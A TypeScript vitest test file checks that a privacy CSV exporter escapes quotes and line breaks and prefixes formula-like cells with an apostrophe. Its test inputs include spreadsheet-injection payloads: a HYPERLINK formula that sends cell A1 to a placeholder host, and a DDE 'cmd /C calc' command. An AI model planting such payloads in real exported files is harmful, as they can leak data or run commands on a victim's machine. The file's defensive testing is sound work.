import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { cellOf, csvOf } from '../../../../server/privacy/exports/csv.ts';

function read(text: string): string[][] {
  return [...text.matchAll(/((?:"(?:[^"]|"")*",?)+)\r\n/g)].map(([, row = '']) =>
    [...row.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"')),
  );
}

describe('CSV', () => {
  test('round-trips every text that is not a formula', () => {
    const cell = fc.string({ unit: 'binary' }).filter((text) => cellOf(text) === `"${text.replaceAll('"', '""')}"`);
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell)), (rows) => {
        expect(read(csvOf({ title: '', columns: ['a', 'b'], rows }))).toEqual([['a', 'b'], ...rows]);
      }),
    );
  });
  test.each([
    '=1+1',
    '=HYPERLINK("http://x.example?"&A1,"look")',
    '+1',
    '-2+3+cmd|" /C calc"!A0',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    ' =1',
    '\u0000=1',
    '\uff1d1+1',
    '\n=1',
  ])('prefixes %j with an apostrophe', (text) => {
    expect(read(`${cellOf(text)}\r\n`)[0]?.[0]).toBe(`'${text}`);
  });
  test('keeps quotes, separators and line breaks inside their cell', () => {
    expect(csvOf({ title: '', columns: ['x'], rows: [['a";=1,"\r\nb']] })).toBe('"x"\r\n"a"";=1,""\r\nb"\r\n');
  });
});
